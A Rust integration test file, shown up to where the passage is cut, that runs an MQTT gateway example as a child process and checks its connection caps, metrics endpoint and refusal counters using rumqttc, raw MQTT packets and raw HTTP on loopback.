//! The `mqtt-gateway` example as a user runs it: the built binary, started as a child
//! process on free loopback ports with a config file, poked with real MQTT clients
//! (rumqttc, and the Debian `mosquitto_sub` / `mosquitto_pub`), raw bytes and raw
//! HTTP, and stopped with SIGTERM.
//!
//! `cargo test -p examples` builds the example before running this file; the binary is
//! found beside the test binary (`target/<profile>/examples/mqtt-gateway`). The MQTT 5
//! test needs `mosquitto` on the PATH or in /usr/sbin (`.ci/run` installs it): the
//! embedded broker (rumqttd 0.20) speaks MQTT 3.1.1 only, and the gateway answers other
//! versions with an "unsupported version" CONNACK. The `mosquitto_sub` / `mosquitto_pub`
//! test needs them in /usr/bin (`mosquitto-clients`, which `.ci/run` installs) and fails
//! without them. The per-core tests need two CPUs and the open-files tests
//! `/usr/bin/prlimit`: without them they skip, or fail under `AEGIS_REQUIRE_ALL_TESTS`
//! ([`common::skipped`]), which `.ci/run` sets on two CPUs or more.
//!
//! Every child process is killed and waited for on every path (a guard's `Drop`), and
//! every wait is a poll with a deadline.

mod common;
#[path = "../mqtt-gateway/drain_reports.rs"]
mod drain_reports;

use std::io::Read;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitStatus, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use aegis_core::testing::dead_port;
use common::{Mosquitto, connect, connect_scram, free_ports, read_packet, skipped};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpSocket, TcpStream};
use tokio::time::{Instant, sleep, timeout};

/// The bound on every single wait for an event.
const WAIT: Duration = Duration::from_secs(15);

// ---------------------------------------------------------------------------------
// The gateway process
// ---------------------------------------------------------------------------------

/// The gateway's `--check` with `args`: its status and output.
fn gateway_check<A: AsRef<std::ffi::OsStr>>(
    args: impl IntoIterator<Item = A>,
) -> std::process::Output {
    Command::new(gateway_bin())
        .arg("--check")
        .args(args)
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

/// The gateway's `--check` of the config file `config` (in a scratch directory named
/// after `name`): its exit code, and its stdout and stderr.
fn check_config(name: &str, config: &str) -> (Option<i32>, String) {
    let dir = scratch(name);
    let file = dir.join("gateway.toml");
    std::fs::write(&file, config).unwrap();
    let out = gateway_check([std::ffi::OsStr::new("--config"), file.as_os_str()]);
    let _ = std::fs::remove_dir_all(&dir);
    let mut text = String::from_utf8_lossy(&out.stdout).into_owned();
    text.push_str(&String::from_utf8_lossy(&out.stderr));
    (out.status.code(), text)
}

/// `target/<profile>/examples/mqtt-gateway`, checked once to be newer than its sources
/// (see [`common::example_bin`]).
fn gateway_bin() -> PathBuf {
    static CHECKED: std::sync::OnceLock<PathBuf> = std::sync::OnceLock::new();
    CHECKED
        .get_or_init(|| {
            common::example_bin(
                "mqtt-gateway",
                &[
                    "examples/mqtt-gateway",
                    "examples/shared",
                    "aegis-core/src",
                    "aegis-layers/src",
                    "aegis-mqtt/src",
                ],
            )
        })
        .clone()
}

/// util-linux's `prlimit`, in every Debian install.
const PRLIMIT: &str = "/usr/bin/prlimit";

/// The descriptors the gateway keeps out of its connection cap's budget under the
/// open-files limit `limit`, besides its own 128: under the default `server.runtime =
/// "per-core"`, for each core but the first, that runtime's own 4 and the sockets the
/// accepting runtime may have queued for it, which the cap counts only once taken: 64
/// (`SHARD_QUEUE`), or fewer, at least 1, so that the queues take at most a quarter of
/// what the 128 and the runtimes' own leave (`examples/mqtt-gateway/open_files.rs`).
fn held_descriptors(limit: u64) -> u64 {
    let cores = std::thread::available_parallelism().map_or(1, |n| n.get() as u64);
    let others = cores - 1;
    if others == 0 {
        return 0;
    }
    let queue = (limit.saturating_sub(128 + 4 * others) / (4 * others)).clamp(1, 64);
    others * (4 + queue)
}

/// The smallest open-files limit under which the gateway's cap comes to `cap` clients
/// of `per_client` descriptors: `limit - 128 - held = cap * per_client`
/// ([`held_descriptors`], which grows with the limit).
fn limit_for(cap: u64, per_client: u64) -> u64 {
    (128_u64..1 << 20)
        .find(|&limit| limit.saturating_sub(128 + held_descriptors(limit)) == cap * per_client)
        .expect("a limit for the cap")
}

/// `strace`, for [`Launch::fsync_delay`].
const STRACE: &str = "/usr/bin/strace";

/// Why `strace` cannot trace a child here, if it cannot: not installed, or `ptrace` not
/// allowed (a container's seccomp profile, Yama's `ptrace_scope`).
fn no_strace() -> Option<String> {
    if !Path::new(STRACE).exists() {
        return Some(format!("no {STRACE}"));
    }
    let out = Command::new(STRACE)
        .args(["-qq", "-o", "/dev/null", "/bin/true"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    (!out.status.success()).then(|| {
        format!(
            "strace cannot trace here: {}",
            String::from_utf8_lossy(&out.stderr).trim()
        )
    })
}

/// The process that traces `pid` (`TracerPid` in /proc/<pid>/status), if any.
fn tracer_of(pid: u32) -> Option<u32> {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    status
        .lines()
        .find_map(|l| l.strip_prefix("TracerPid:"))?
        .trim()
        .parse()
        .ok()
        .filter(|&tracer| tracer != 0)
}

/// A scratch directory for one test's config file and the gateway's stderr.
fn scratch(name: &str) -> PathBuf {
    let dir =
        std::env::temp_dir().join(format!("aegis-mqtt-gateway-{name}-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// The gateway running as a child process; killed and waited for when dropped.
struct Gateway {
    child: Option<Child>,
    mqtt: SocketAddr,
    metrics: SocketAddr,
    dir: PathBuf,
}

/// How [`Gateway::start_with`] starts the gateway, beyond its config and flags.
#[derive(Debug, Clone)]
struct Launch {
    /// The IP of `--metrics` (its port is a free one): `0.0.0.0` puts the endpoint beyond
    /// loopback, still reached at `127.0.0.1`.
    metrics_ip: &'static str,
    /// `RUST_LOG` (`None`: unset, so that `log.level` applies).
    rust_log: Option<&'static str>,
    /// The CPUs the gateway may run on (`taskset -c`, a list such as `"0,1"`), and so
    /// the number of its per-core runtimes (`available_parallelism` counts the CPUs of
    /// its affinity mask); `None`: every CPU of the test's own.
    cpus: Option<String>,
    /// The gateway's open-files limit, soft and hard (`prlimit --nofile`); `None`: the
    /// test's own.
    nofile: Option<(u64, u64)>,
    /// Holds every `fsync` of the gateway's for this long (a `strace` delay, such as
    /// `"600s"`), as a disk that hangs would: `strace -D` traces it from a process of its
    /// own, so that the child is still the gateway. Check [`no_strace`] first.
    fsync_delay: Option<&'static str>,
    /// The gateway's stderr is a pipe that the test never reads (as a stalled log pipe
    /// would be), instead of `stderr.log` (and [`Gateway::log`] reads nothing).
    unread_stderr: bool,
}

impl Default for Launch {
    fn default() -> Self {
        Self {
            metrics_ip: "127.0.0.1",
            rust_log: Some("info,mqtt_gateway=debug"),
            cpus: None,
            nofile: None,
            fsync_delay: None,
            unread_stderr: false,
        }
    }
}

/// The test's own CPUs (its affinity mask, `Cpus_allowed_list` in /proc/self/status),
/// in order.
fn allowed_cpus() -> Vec<u32> {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    let Some(list) = status
        .lines()
        .find_map(|l| l.strip_prefix("Cpus_allowed_list:"))
    else {
        return Vec::new();
    };
    let mut cpus = Vec::new();
    for range in list.trim().split(',').filter(|r| !r.is_empty()) {
        let (first, last) = range.split_once('-').unwrap_or((range, range));
        if let (Ok(first), Ok(last)) = (first.parse::<u32>(), last.parse::<u32>()) {
            cpus.extend(first..=last);
        }
    }
    cpus
}

/// A [`Launch`] whose gateway runs `n` per-core runtimes, pinned with `taskset` to `n`
/// of the test's CPUs (exactly `n` runtimes on a larger machine too); the reason it
/// cannot when the machine has fewer CPUs (or no `taskset`, and not exactly `n`).
fn runtimes(n: usize) -> Result<Launch, String> {
    let cpus = allowed_cpus();
    let have = std::thread::available_parallelism().map_or(1, std::num::NonZeroUsize::get);
    if cpus.len() >= n && Path::new("/usr/bin/taskset").exists() {
        let list: Vec<String> = cpus[..n].iter().map(u32::to_string).collect();
        return Ok(Launch {
            cpus: Some(list.join(",")),
            ..Launch::default()
        });
    }
    if have == n {
        return Ok(Launch::default());
    }
    Err(format!(
        "needs {n} cores to pin the gateway to (taskset), this machine gives the test {have}"
    ))
}

impl Gateway {
    /// Starts the gateway with `config` (TOML) and extra flags, and waits until
    /// `/healthz` answers.
    async fn start(name: &str, config: &str, extra: &[&str]) -> Self {
        Self::start_with(name, config, extra, Launch::default()).await
    }

    /// [`Gateway::start`], as `launch` says.
    ///
    /// The two ports are free when picked but not held until the gateway binds them, so
    /// another socket of the test run (a client's ephemeral port) can take one first: the
    /// gateway then exits with "Address already in use", and is started again on new
    /// ports, up to `ATTEMPTS` times.
    async fn start_with(name: &str, config: &str, extra: &[&str], launch: Launch) -> Self {
        const ATTEMPTS: u32 = 3;
        'attempts: for attempt in 1..=ATTEMPTS {
            let dir = scratch(name);
            let conf = dir.join("gateway.toml");
            std::fs::write(&conf, config).unwrap();
            let [mqtt, metrics] = free_ports();
            let metrics_flag = format!("{}:{}", launch.metrics_ip, metrics.port());
            let stderr = std::fs::File::create(dir.join("stderr.log")).unwrap();
            let mut command = match (&launch.cpus, launch.nofile, launch.fsync_delay) {
                (_, _, Some(delay)) => {
                    // strace -D execs the gateway in this process and traces it from a
                    // grandchild; the seccomp filter stops only the `fsync` calls.
                    let mut strace = Command::new(STRACE);
                    strace
                        .args(["-D", "-f", "--seccomp-bpf", "-qq", "-o", "/dev/null"])
                        .args(["-e", "trace=fsync", "-e"])
                        .arg(format!("inject=fsync:delay_enter={delay}"))
                        .arg(gateway_bin());
                    strace
                }
                (Some(cpus), _, None) => {
                    // taskset execs the gateway: the child's pid is the gateway's.
                    let mut taskset = Command::new("/usr/bin/taskset");
                    taskset.args(["-c", cpus]).arg(gateway_bin());
                    taskset
                }
                (None, Some((soft, hard)), None) => {
                    // prlimit sets its own limit and execs the gateway, as taskset does.
                    let mut prlimit = Command::new(PRLIMIT);
                    prlimit
                        .arg(format!("--nofile={soft}:{hard}"))
                        .arg(gateway_bin());
                    prlimit
                }
                (None, None, None) => Command::new(gateway_bin()),
            };
            command
                .arg("--config")
                .arg(&conf)
                .args(["--listen", &mqtt.to_string()])
                .args(["--metrics", &metrics_flag])
                .args(extra)
                .env_remove("RUST_LOG")
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(stderr);
            if launch.unread_stderr {
                // The read end is held in `Child::stderr`, never read.
                command.stderr(Stdio::piped());
            }
            if let Some(filter) = launch.rust_log {
                command.env("RUST_LOG", filter);
            }
            let child = command.spawn().unwrap();
            // Dropped on a retry or a panic: the child is killed and its directory removed.
            let mut gw = Self {
                child: Some(child),
                mqtt,
                metrics,
                dir,
            };
            let deadline = Instant::now() + WAIT;
            loop {
                if let Some(status) = gw.child.as_mut().unwrap().try_wait().unwrap() {
                    let log = gw.log();
                    if attempt < ATTEMPTS && log.contains("Address already in use") {
                        continue 'attempts;
                    }
                    panic!("the gateway exited at start-up ({status}):\n{log}");
                }
                // The gateway binds the MQTT port before the metrics port, so a healthy
                // endpoint means both listen (and no probe eats a client's rate budget).
                // Its log lines are written by a thread of their own, behind the
                // process: the start-up line, logged after every line of the start
                // (restored bans, a cut cap...), says those are in the file too (when
                // there is one).
                if let Ok((200, _)) = http_get(metrics, "/healthz").await
                    && (launch.unread_stderr || gw.log().contains("mqtt-gateway listening"))
                {
                    return gw;
                }
                assert!(
                    Instant::now() < deadline,
                    "the gateway did not start within {WAIT:?}:\n{}",
                    gw.log()
                );
                sleep(Duration::from_millis(25)).await;
            }
        }
        unreachable!("the last attempt returns or panics")
    }

    fn log(&self) -> String {
        std::fs::read_to_string(self.dir.join("stderr.log")).unwrap_or_default()
    }

    fn pid(&self) -> u32 {
        self.child.as_ref().unwrap().id()
    }

    /// Sends SIGTERM.
    fn terminate(&self) {
        self.signal("TERM");
    }

    /// Sends the signal `name` (`"TERM"`, `"INT"`).
    fn signal(&self, name: &str) {
        let ok = Command::new("kill")
            .args([&format!("-{name}"), &self.pid().to_string()])
            .status()
            .unwrap()
            .success();
        assert!(ok, "kill -{name} failed");
    }

    /// Kills the process that traces the gateway ([`Launch::fsync_delay`]): the kernel
    /// reports a traced process's exit to its parent only once its tracer has seen it,
    /// and strace sees none while it holds a call back.
    fn kill_tracer(&self) {
        if let Some(tracer) = tracer_of(self.pid()) {
            let _ = Command::new("kill")
                .args(["-KILL", &tracer.to_string()])
                .status();
        }
    }

    /// Whether the process still runs.
    fn running(&mut self) -> bool {
        self.child.as_mut().unwrap().try_wait().unwrap().is_none()
    }

    /// Waits (bounded) until the log contains `line`.
    async fn wait_log(&self, line: &str) {
        let deadline = Instant::now() + WAIT;
        while !self.log().contains(line) {
            assert!(
                Instant::now() < deadline,
                "no {line:?} in the log after {WAIT:?}:\n{}",
                self.log()
            );
            sleep(Duration::from_millis(20)).await;
        }
    }

    /// Waits (bounded) for the process to exit.
    async fn exit_status(&mut self) -> ExitStatus {
        let child = self.child.as_mut().unwrap();
        let deadline = Instant::now() + WAIT;
        loop {
            if let Some(status) = child.try_wait().unwrap() {
                self.child = None;
                return status;
            }
            assert!(
                Instant::now() < deadline,
                "the gateway did not exit within {WAIT:?}"
            );
            sleep(Duration::from_millis(25)).await;
        }
    }

    /// One Prometheus sample: the value of the line that starts with `series`.
    async fn metric(&self, series: &str) -> Option<f64> {
        let (status, body) = http_get(self.metrics, "/metrics").await.unwrap();
        assert_eq!(status, 200);
        body.lines()
            .find_map(|l| l.strip_prefix(series)?.trim().parse().ok())
    }

    /// Waits (bounded) until `series` reads at least `min`.
    async fn wait_metric(&self, series: &str, min: f64) {
        self.wait_metric_until(series, |v| v >= min, &format!(">= {min}"))
            .await;
    }

    /// Waits (bounded) until `series` reads below `max`.
    async fn wait_metric_below(&self, series: &str, max: f64) {
        self.wait_metric_until(series, |v| v < max, &format!("< {max}"))
            .await;
    }

    /// Waits (bounded) until `series` reads a value `ok` takes, `wanted` saying which.
    async fn wait_metric_until(&self, series: &str, ok: impl Fn(f64) -> bool, wanted: &str) {
        let deadline = Instant::now() + WAIT;
        loop {
            let v = self.metric(series).await;
            if v.is_some_and(&ok) {
                return;
            }
            assert!(
                Instant::now() < deadline,
                "{series} is {v:?}, not {wanted}, after {WAIT:?}; /metrics:\n{}",
                http_get(self.metrics, "/metrics").await.unwrap().1
            );
            sleep(Duration::from_millis(25)).await;
        }
    }
}

impl Drop for Gateway {
    fn drop(&mut self) {
        if let Some(mut child) = self.child.take() {
            let tracer = tracer_of(child.id());
            let _ = child.kill();
            if let Some(tracer) = tracer {
                // Else `wait` waits out strace's delay ([`Gateway::kill_tracer`]).
                let _ = Command::new("kill")
                    .args(["-KILL", &tracer.to_string()])
                    .status();
            }
            let _ = child.wait();
        }
        if std::thread::panicking() {
            eprintln!("--- gateway stderr ---\n{}", self.log());
        }
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

/// Runs the gateway with `config` to its exit (bounded); returns the status and stderr.
fn run_to_exit(name: &str, config: &str) -> (ExitStatus, String) {
    let [mqtt, metrics] = free_ports();
    run_to_exit_on(name, config, mqtt, metrics)
}

/// [`run_to_exit`] with the MQTT and metrics listeners on `mqtt` and `metrics`.
fn run_to_exit_on(
    name: &str,
    config: &str,
    mqtt: SocketAddr,
    metrics: SocketAddr,
) -> (ExitStatus, String) {
    let dir = scratch(name);
    let conf = dir.join("gateway.toml");
    std::fs::write(&conf, config).unwrap();
    let mut child = Command::new(gateway_bin())
        .arg("--config")
        .arg(&conf)
        .args(["--listen", &mqtt.to_string()])
        .args(["--metrics", &metrics.to_string()])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = Instant::now() + WAIT;
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("the gateway kept running with a bad config");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let mut stderr = String::new();
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut stderr)
        .unwrap();
    let _ = std::fs::remove_dir_all(&dir);
    (status, stderr)
}

/// A GET over a fresh connection (HTTP/1.1, `Connection: close`): status and body.
async fn http_get(addr: SocketAddr, path: &str) -> std::io::Result<(u16, String)> {
    http_request(addr, "GET", path).await
}

/// One HTTP/1.1 request without a body: the status and the body.
async fn http_request(
    addr: SocketAddr,
    method: &str,
    path: &str,
) -> std::io::Result<(u16, String)> {
    http_request_with(addr, method, path, "").await
}

/// [`http_request`] with more header lines (each ending in `\r\n`).
async fn http_request_with(
    addr: SocketAddr,
    method: &str,
    path: &str,
    headers: &str,
) -> std::io::Result<(u16, String)> {
    let (status, _, body) = http_exchange(addr, method, path, headers).await?;
    Ok((status, body))
}

/// [`http_request_with`], the answer's head too (status line and headers): the status,
/// the head and the body.
async fn http_exchange(
    addr: SocketAddr,
    method: &str,
    path: &str,
    headers: &str,
) -> std::io::Result<(u16, String, String)> {
    timeout(Duration::from_secs(5), async {
        let mut s = TcpStream::connect(addr).await?;
        s.write_all(
            format!(
                "{method} {path} HTTP/1.1\r\nHost: {addr}\r\n{headers}Content-Length: 0\r\nConnection: close\r\n\r\n"
            )
            .as_bytes(),
        )
        .await?;
        let mut raw = String::new();
        s.read_to_string(&mut raw).await?;
        let status = raw
            .split(' ')
            .nth(1)
            .and_then(|s| s.parse().ok())
            .unwrap_or(0);
        let (head, body) = raw.split_once("\r\n\r\n").unwrap_or((&raw, ""));
        Ok((status, head.to_string(), body.to_string()))
    })
    .await
    .unwrap_or_else(|_| Err(std::io::ErrorKind::TimedOut.into()))
}

// ---------------------------------------------------------------------------------
// Raw MQTT
// ---------------------------------------------------------------------------------

/// An MQTT 3.1.1 CONNECT with clean session, keep-alive 60 s and `client_id`.
fn connect_311(client_id: &str) -> Vec<u8> {
    connect(4, client_id, 60)
}

/// Whether the gateway closed the connection without sending a byte (bounded).
async fn closed_silently(s: &mut TcpStream) -> bool {
    common::closed_silently(s, WAIT).await
}

/// Connects from `source` (a loopback address) to `to`.
async fn connect_from(source: &str, to: SocketAddr) -> TcpStream {
    try_connect_from(source, to).await.unwrap()
}

/// [`connect_from`], with the connect's error.
async fn try_connect_from(source: &str, to: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(format!("{source}:0").parse().unwrap())?;
    socket.connect(to).await
}

/// Whether a connection from `source` is refused before anything is answered: reset
/// while connecting (the accept loop resets a banned address, possibly before `connect`
/// has returned), or closed silently after `packet`.
async fn refused_from(source: &str, to: SocketAddr, packet: &[u8]) -> bool {
    match try_connect_from(source, to).await {
        Err(e) => e.kind() == std::io::ErrorKind::ConnectionReset,
        Ok(mut s) => {
            let _ = s.write_all(packet).await;
            closed_silently(&mut s).await
        }
    }
}

/// Whether a connection from `source` is reset before anything is read from it, as the
/// accept loop refuses an address (`SO_LINGER` 0), rather than closed by the service.
async fn reset_at_accept(source: &str, to: SocketAddr) -> bool {
    let mut s = match try_connect_from(source, to).await {
        Err(e) => return e.kind() == std::io::ErrorKind::ConnectionReset,
        Ok(s) => s,
    };
    let mut buf = [0u8; 1];
    match timeout(WAIT, s.read(&mut buf)).await {
        Ok(Err(e)) => e.kind() == std::io::ErrorKind::ConnectionReset,
        _ => false,
    }
}

/// CONNECT with `client_id` over a fresh connection; returns the connection if the
/// gateway relayed the broker's CONNACK 0 (accepted), `None` if it did not or the
/// connect itself failed.
async fn mqtt_session(from: &str, gw: SocketAddr, client_id: &str) -> Option<TcpStream> {
    // A banned address may be reset before the connect returns.
    let mut s = try_connect_from(from, gw).await.ok()?;
    s.write_all(&connect_311(client_id)).await.ok()?;
    match timeout(WAIT, read_packet(&mut s)).await {
        Ok(Ok((0x20, body))) if body == [0x00, 0x00] => Some(s),
        _ => None,
    }
}

/// Asserts that a session from each of `refused` is refused by the gateway at `gw`, and
/// that one from `served` is served.
async fn refused_but(gw: SocketAddr, refused: &[&str], served: &str) {
    for from in refused {
        let session = mqtt_session(from, gw, "refused").await;
        assert!(session.is_none(), "{from} was served");
    }
    let session = mqtt_session(served, gw, "served").await;
    assert!(session.is_some(), "{served} was refused");
}

// ---------------------------------------------------------------------------------
// A real client: rumqttc (3.1.1 and 5.0)
// ---------------------------------------------------------------------------------

/// A received PUBLISH: (topic, QoS, payload).
type Msg = (String, u8, Vec<u8>);

/// What the tests need of a client event loop.
#[derive(Debug)]
enum Ev {
    ConnAck,
    SubAck,
    Publish(Msg),
    Acked,
    Closed(String),
}

/// Publishes (topic, `QoS`, payload) on a task.
type PublishFn = Box<dyn Fn(&str, u8, Vec<u8>) -> tokio::task::JoinHandle<()> + Send>;
/// Subscribes (filter, `QoS`) on a task.
type SubscribeFn = Box<dyn Fn(&str, u8) -> tokio::task::JoinHandle<()> + Send>;

/// Drives a rumqttc event loop on a task, forwarding the events the tests look at.
struct Client {
    publish: PublishFn,
    subscribe: SubscribeFn,
    events: tokio::sync::mpsc::UnboundedReceiver<Ev>,
    task: tokio::task::JoinHandle<()>,
}

impl Drop for Client {
    fn drop(&mut self) {
        self.task.abort();
    }
}

impl Client {
    async fn v311(gw: SocketAddr, id: &str) -> Self {
        use rumqttc::{AsyncClient, Event, MqttOptions, Packet};
        let mut o = MqttOptions::new(id, gw.ip().to_string(), gw.port());
        o.set_keep_alive(Duration::from_secs(30));
        let (client, mut el) = AsyncClient::new(o, 16);
        let (tx, events) = tokio::sync::mpsc::unbounded_channel();
        let task = tokio::spawn(async move {
            loop {
                let ev = match el.poll().await {
                    Ok(Event::Incoming(Packet::ConnAck(_))) => Ev::ConnAck,
                    Ok(Event::Incoming(Packet::SubAck(_))) => Ev::SubAck,
                    Ok(Event::Incoming(Packet::Publish(p))) => {
                        Ev::Publish((p.topic, p.qos as u8, p.payload.to_vec()))
                    }
                    Ok(Event::Incoming(Packet::PubAck(_) | Packet::PubComp(_))) => Ev::Acked,
                    Ok(_) => continue,
                    Err(e) => {
                        let _ = tx.send(Ev::Closed(e.to_string()));
                        break;
                    }
                };
                if tx.send(ev).is_err() {
                    break;
                }
            }
        });
        let (pc, sc) = (client.clone(), client);
        let mut c = Self {
            publish: Box::new(move |t, q, p| {
                let (c, t) = (pc.clone(), t.to_string());
                tokio::spawn(async move {
                    c.publish(t, rumqttc::qos(q).unwrap(), false, p)
                        .await
                        .unwrap();
                })
            }),
            subscribe: Box::new(move |f, q| {
                let (c, f) = (sc.clone(), f.to_string());
                tokio::spawn(async move {
                    c.subscribe(f, rumqttc::qos(q).unwrap()).await.unwrap();
                })
            }),
            events,
            task,
        };
        c.expect("CONNACK", |e| matches!(e, Ev::ConnAck).then_some(()))
            .await;
        c
    }

    async fn v5(gw: SocketAddr, id: &str) -> Self {
        use rumqttc::v5::mqttbytes::v5::Packet;
        use rumqttc::v5::{AsyncClient, Event, MqttOptions};
        let mut o = MqttOptions::new(id, gw.ip().to_string(), gw.port());
        o.set_keep_alive(Duration::from_secs(30));
        let (client, mut el) = AsyncClient::new(o, 16);
        let (tx, events) = tokio::sync::mpsc::unbounded_channel();
        let task = tokio::spawn(async move {
            loop {
                let ev = match el.poll().await {
                    Ok(Event::Incoming(Packet::ConnAck(_))) => Ev::ConnAck,
                    Ok(Event::Incoming(Packet::SubAck(_))) => Ev::SubAck,
                    Ok(Event::Incoming(Packet::Publish(p))) => Ev::Publish((
                        String::from_utf8_lossy(&p.topic).into_owned(),
                        p.qos as u8,
                        p.payload.to_vec(),
                    )),
                    Ok(Event::Incoming(Packet::PubAck(_) | Packet::PubComp(_))) => Ev::Acked,
                    Ok(_) => continue,
                    Err(e) => {
                        let _ = tx.send(Ev::Closed(e.to_string()));
                        break;
                    }
                };
                if tx.send(ev).is_err() {
                    break;
                }
            }
        });
        let (pc, sc) = (client.clone(), client);
        let mut c = Self {
            publish: Box::new(move |t, q, p| {
                let (c, t) = (pc.clone(), t.to_string());
                tokio::spawn(async move {
                    let q = rumqttc::v5::mqttbytes::qos(q).unwrap();
                    c.publish(t, q, false, p).await.unwrap();
                })
            }),
            subscribe: Box::new(move |f, q| {
                let (c, f) = (sc.clone(), f.to_string());
                tokio::spawn(async move {
                    let q = rumqttc::v5::mqttbytes::qos(q).unwrap();
                    c.subscribe(f, q).await.unwrap();
                })
            }),
            events,
            task,
        };
        c.expect("CONNACK", |e| matches!(e, Ev::ConnAck).then_some(()))
            .await;
        c
    }

    /// Skips events until `f` picks one; panics on a close or after [`WAIT`].
    async fn expect<T>(&mut self, what: &str, mut f: impl FnMut(Ev) -> Option<T>) -> T {
        let deadline = Instant::now() + WAIT;
        loop {
            let left = deadline.saturating_duration_since(Instant::now());
            match timeout(left, self.events.recv()).await {
                Ok(Some(Ev::Closed(why))) => panic!("closed ({why}) while waiting for {what}"),
                Ok(Some(e)) => {
                    if let Some(t) = f(e) {
                        return t;
                    }
                }
                Ok(None) => panic!("event loop gone while waiting for {what}"),
                Err(_) => panic!("no {what} within {WAIT:?}"),
            }
        }
    }
}

/// Subscribes with `sub` at `QoS` 2, then publishes one message at each `QoS` with
/// `publ`, and checks that `sub` receives each, in order, at the `QoS` it was sent with
/// (`exact_qos`) or at least at that `QoS`: rumqttd 0.20 delivers at the subscription's
/// `QoS`, not at min(publication, subscription) as MQTT-3.8.4-6 asks.
async fn pub_sub_all_qos(sub: &mut Client, publ: &mut Client, topic: &str, exact_qos: bool) {
    let _ = (sub.subscribe)(topic, 2).await;
    sub.expect("SUBACK", |e| matches!(e, Ev::SubAck).then_some(()))
        .await;
    for qos in 0..=2u8 {
        let payload = format!("hello at qos {qos}").into_bytes();
        let _ = (publ.publish)(topic, qos, payload.clone()).await;
        if qos > 0 {
            publ.expect("PUBACK/PUBCOMP", |e| matches!(e, Ev::Acked).then_some(()))
                .await;
        }
        let got = sub
            .expect("PUBLISH", |e| match e {
                Ev::Publish(m) => Some(m),
                _ => None,
            })
            .await;
        assert_eq!((got.0.as_str(), &got.2), (topic, &payload), "QoS {qos}");
        if exact_qos {
            assert_eq!(got.1, qos, "delivered QoS");
        } else {
            assert!(got.1 >= qos, "delivered at QoS {} for QoS {qos}", got.1);
        }
    }
}

// ---------------------------------------------------------------------------------
// The tests
// ---------------------------------------------------------------------------------

/// One client address holding idle connections to the metrics endpoint gets at most
/// four of them: a fifth is refused at once, while another address (the scraper, a
/// probe) is still answered; a slot comes back when a connection ends.
#[tokio::test]
async fn one_address_cannot_take_every_metrics_connection() {
    let gw = Gateway::start("metrics-per-address", "", &[]).await;
    let idle_from = |ip: &'static str| connect_from(ip, gw.metrics);
    let mut held = Vec::new();
    for _ in 0..4 {
        held.push(idle_from("127.0.0.1").await);
    }
    // The fifth from the same address: refused at accept, without an answer.
    let mut fifth = idle_from("127.0.0.1").await;
    fifth
        .write_all(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        .await
        .ok();
    let mut got = Vec::new();
    let read = timeout(Duration::from_secs(5), fifth.read_to_end(&mut got)).await;
    assert!(matches!(read, Ok(Ok(0)) | Ok(Err(_))), "{read:?}: {got:?}");
    // Another address is served.
    let mut other = idle_from("127.0.0.2").await;
    other
        .write_all(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
        .await
        .unwrap();
    let mut answer = String::new();
    timeout(Duration::from_secs(5), other.read_to_string(&mut answer))
        .await
        .unwrap()
        .unwrap();
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    // One of the four ends: the address gets its place back.
    drop(held.pop());
    let deadline = Instant::now() + WAIT;
    while !matches!(http_get(gw.metrics, "/healthz").await, Ok((200, _))) {
        assert!(
            Instant::now() < deadline,
            "127.0.0.1 got no place back within {WAIT:?}"
        );
        sleep(Duration::from_millis(20)).await;
    }
}

/// The metrics endpoint's cap of four connections is per client network, keyed as the
/// rate limits key clients (`limits.ipv4_prefix`): with a /24, four addresses of one
/// /24 take its four places, a fifth address of it is reset at accept, and an address
/// of another /24 is served. (The IPv6 default, a /64, cannot be shown on loopback.)
#[tokio::test]
async fn the_metrics_connection_cap_is_per_client_network() {
    let gw = Gateway::start("metrics-per-network", "[limits]\nipv4_prefix = 24\n", &[]).await;
    let mut held = Vec::new();
    for ip in ["127.0.0.2", "127.0.0.3", "127.0.0.4", "127.0.0.5"] {
        held.push(connect_from(ip, gw.metrics).await);
    }
    // The fifth from the network is refused with a reset (no FIN, no socket left in
    // FIN_WAIT2), as the gateway's own accept loop refuses.
    assert!(reset_at_accept("127.0.0.6", gw.metrics).await);
    let request = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n";
    let mut other = connect_from("127.0.1.2", gw.metrics).await;
    other.write_all(request).await.unwrap();
    let mut answer = String::new();
    timeout(Duration::from_secs(5), other.read_to_string(&mut answer))
        .await
        .unwrap()
        .unwrap();
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    drop(held);
}

/// The metrics endpoint counts its own refusals, both series there at 0 from the start:
/// a connection over a client network's four in
/// `aegis_rejections_total{layer="metrics_endpoint",reason="concurrency"}`, one over the
/// endpoint's sixteen in `reason="over_capacity"`.
#[tokio::test]
async fn the_metrics_endpoints_own_refusals_are_counted() {
    const PER_NETWORK: &str =
        "aegis_rejections_total{layer=\"metrics_endpoint\",reason=\"concurrency\"}";
    const OVER_CAP: &str =
        "aegis_rejections_total{layer=\"metrics_endpoint\",reason=\"over_capacity\"}";
    let gw = Gateway::start("metrics-refusals", "", &[]).await;
    assert_eq!(gw.metric(PER_NETWORK).await, Some(0.0));
    assert_eq!(gw.metric(OVER_CAP).await, Some(0.0));

    // 127.0.0.2 takes its four places; a fifth from it is reset at accept, and counted
    // before the next accept (a scrape from 127.0.0.1) is served.
    let mut held = Vec::new();
    for _ in 0..4 {
